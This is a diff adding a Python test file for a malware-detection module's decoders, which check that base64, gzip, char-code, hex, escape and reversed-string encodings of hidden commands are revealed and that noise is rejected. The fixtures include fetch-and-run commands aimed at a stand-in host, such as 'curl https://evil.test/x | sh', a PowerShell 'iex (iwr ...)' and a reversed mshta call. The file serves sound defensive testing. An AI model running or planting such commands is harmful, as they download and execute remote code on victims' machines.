@@ -1,0 +1,61 @@
+"""Decoders reveal hidden text; they never accept noise as text."""
+
+import base64
+import gzip
+
+from app.detection.decoders import (
+    bytes_to_text,
+    decode_base64,
+    decode_char_codes,
+    decode_hex,
+    decode_reversed,
+    decode_unicode_escapes,
+    decode_url_escapes,
+)
+
+
+def b64(text: str, encoding: str = "utf-8") -> str:
+    return base64.b64encode(text.encode(encoding)).decode()
+
+
+def test_encoded_command_utf16le() -> None:
+    blob = b64("iex (iwr https://evil.test/a)", "utf-16-le")
+    assert list(decode_base64(f"powershell -enc {blob}")) == ["iex (iwr https://evil.test/a)"]
+
+
+def test_truncated_utf16_base64_still_decodes() -> None:
+    decoded = list(decode_base64("powershell.exe -enc JABsAGwAPQBAACgAMgAyADMALAAyAD"))
+    assert decoded and decoded[0].startswith("$ll=@(")
+
+
+def test_gzip_inside_base64() -> None:
+    blob = base64.b64encode(gzip.compress(b"curl https://evil.test/x | sh")).decode()
+    assert "curl https://evil.test/x | sh" in list(decode_base64(blob))
+
+
+def test_hex_digests_and_plain_words_are_not_base64() -> None:
+    digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
+    assert list(decode_base64(digest)) == []
+    assert list(decode_base64("internationalization")) == []
+
+
+def test_binary_noise_is_rejected() -> None:
+    assert bytes_to_text(bytes(range(256))) is None
+
+
+def test_char_codes() -> None:
+    assert list(decode_char_codes("String.fromCharCode(99,117,114,108)")) == ["curl"]
+    assert list(decode_char_codes("[char]105+[char]101+[char]120+[char]32")) == ["iex "]
+    assert list(decode_char_codes("ports 8080, 8081, 8082, 8083")) == []
+
+
+def test_hex_and_unicode_and_url_escapes() -> None:
+    assert list(decode_hex(r"\x63\x75\x72\x6c")) == ["curl"]
+    assert list(decode_unicode_escapes(r"\u0065\u0076\u0061\u006c")) == ["eval"]
+    assert list(decode_url_escapes("%6D%73%68%74%61")) == ["mshta"]
+
+
+def test_reversed_only_with_a_reversal_hint() -> None:
+    hidden = "'atv.ssf/tset.live//:sptth athsm'[-1..-100] -join ''"
+    assert any("mshta https://evil.test/fss.vta" in d for d in decode_reversed(hidden))
+    assert list(decode_reversed("athsm plain text")) == []
